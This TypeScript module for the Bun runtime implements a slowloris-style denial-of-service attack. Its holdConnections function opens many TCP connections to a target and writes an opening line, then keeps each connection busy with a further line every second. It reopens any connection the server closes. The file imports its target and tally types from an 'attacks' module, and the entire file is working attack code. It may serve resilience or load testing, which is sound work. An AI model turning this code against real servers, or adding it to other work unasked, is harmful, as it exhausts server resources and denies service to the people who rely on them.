// Many connections that are kept open and busy with nothing; one that the server closes is opened
// again.

import type { Socket } from "bun";
import type { AttackTally, AttackTarget } from "./attacks.ts";

/** What a connection says at first, and then once a second; null: nothing. */
export interface Lines {
  readonly first: string;
  readonly next: string | null;
}

/** Opened at once; a listener has a bounded backlog. */
const openingMax = 200;
const againAfterMs = 1_000;
const paceMs = 1_000;

export function holdConnections(
  { hostname, port }: AttackTarget,
  connections: number,
  lines: readonly Lines[],
): AttackTally {
  const open = new Map<Socket<Lines>, Lines>();
  const counts = { opened: 0, closed: 0, failed: 0 };
  const ready = Promise.withResolvers<void>();
  let wanted = connections;
  let opening = 0;

  function openMore(): void {
    while (wanted > 0 && opening < openingMax) {
      wanted -= 1;
      opening += 1;
      const data = lines[counts.opened % lines.length] ?? { first: "", next: null };
      Bun.connect<Lines>({ hostname, port, data, socket: handlers }).catch(() => failed());
    }
  }

  function failed(): void {
    opening -= 1;
    counts.failed += 1;
    again();
  }

  function again(): void {
    setTimeout(() => {
      wanted += 1;
      openMore();
    }, againAfterMs);
    if (counts.opened + counts.failed >= connections) ready.resolve();
  }

  const handlers = {
    open(socket: Socket<Lines>) {
      opening -= 1;
      counts.opened += 1;
      open.set(socket, socket.data);
      socket.write(socket.data.first);
      if (counts.opened + counts.failed >= connections) ready.resolve();
      openMore();
    },
    data() {},
    close(socket: Socket<Lines>) {
      if (!open.delete(socket)) return;
      counts.closed += 1;
      again();
    },
    error(socket: Socket<Lines>) {
      socket.terminate();
    },
  };

  openMore();
  setInterval(() => {
    for (const [socket, { next }] of open) if (next !== null) socket.write(next);
  }, paceMs);
  return { ready: ready.promise, counts: () => ({ ...counts, open: open.size }) };
}
